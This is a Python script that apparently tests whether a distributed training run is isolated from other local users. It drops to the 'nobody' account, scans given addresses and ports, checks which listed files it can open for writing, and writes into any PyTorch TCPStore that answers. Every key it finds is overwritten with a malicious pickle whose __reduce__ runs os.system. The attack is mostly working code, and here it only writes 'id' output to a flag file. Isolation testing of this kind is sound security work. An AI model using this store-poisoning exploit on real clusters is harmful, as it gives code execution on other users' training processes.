"""Another user of the machine, who tries to get into a run: every port of its processes by every address, and
the files they meet by.

    python stranger.py '{"ports": [...], "addresses": [...], "files": [...], "names": [...], "flag": PATH}'

Prints what was reached. Where a store answers, each of the names in it, and each of `names`, is given a
pickle that writes `flag`.
"""

from __future__ import annotations

import base64
import contextlib
import encodings.idna  # noqa: F401  # which nobody may be unable to read, where Python is installed for one user
import json
import os
import pickle
import socket
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

from torch.distributed import TCPStore

NOBODY = 65534
_SECONDS = 3.0


class Payload:
    def __init__(self, flag: str) -> None:
        self.flag = flag

    def __reduce__(self):
        return os.system, (f"id > {self.flag}",)


def become_nobody() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def connect(address: str, port: int) -> bool:
    try:
        with socket.create_connection((address, port), timeout=_SECONDS):
            return True
    except OSError:
        return False


def poison(address: str, port: int, names: list[str], flag: str) -> list[str]:
    """The names in a store that answers, after each was given the payload."""
    content = pickle.dumps(Payload(flag))
    with contextlib.suppress(RuntimeError, ValueError):
        store = TCPStore(
            address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=_SECONDS)
        )
        there = store.list_keys()
        for name in {*there, *names}:
            store.set(name, base64.b64encode(content))
        return there
    return []


def main() -> None:
    asked = json.loads(sys.argv[1])
    become_nobody()
    places = [(address, port) for address in asked["addresses"] for port in asked["ports"]]
    with ThreadPoolExecutor(max(1, len(places))) as pool:
        reached = [
            place
            for place, there in zip(places, pool.map(lambda place: connect(*place), places), strict=True)
            if there
        ]
    opened = []
    for path in asked["files"]:
        with contextlib.suppress(OSError), open(path, "r+b"):
            opened.append(path)
    stores = {port: poison(address, port, asked["names"], asked["flag"]) for address, port in reached}
    print(json.dumps({"uid": os.getuid(), "reached": reached, "opened": opened, "stores": stores}))


if __name__ == "__main__":
    main()
